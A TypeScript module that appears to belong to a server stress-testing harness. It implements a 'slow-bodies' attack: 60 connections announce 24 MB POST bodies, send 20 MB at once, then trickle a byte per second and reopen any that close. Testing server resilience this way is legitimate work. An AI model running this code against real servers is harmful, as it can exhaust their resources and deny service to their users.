/** Bodies that begin fast and then hardly go on. */
import type { Attack } from './attack.ts'
import { openSocket, pause } from './sockets.ts'

const connections = 60

/** Bytes that are announced, and that are sent at once. */
const announced = 24_000_000
const sent = 20_000_000

export const slowBodies: Attack = {
  name: 'slow-bodies',
  about: `${connections} connections that send 20 of 24 MB, then a byte a second`,
  async run(target, signal) {
    const head = `POST ${target.paths.parse} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${announced}\r\n\r\n`
    const begin = Buffer.concat([Buffer.from(`${head}"`), Buffer.alloc(sent, 'a')])
    const open = () => {
      const socket = openSocket(target)
      socket.write(begin)
      socket.resume()
      return socket
    }
    let sockets = Array.from({ length: connections }, open)
    while (!signal.aborted) {
      await pause(1000, signal)
      sockets = sockets.map((socket) => (socket.writable ? socket : open()))
      for (const socket of sockets) if (socket.writableLength === 0) socket.write('a')
    }
  },
}
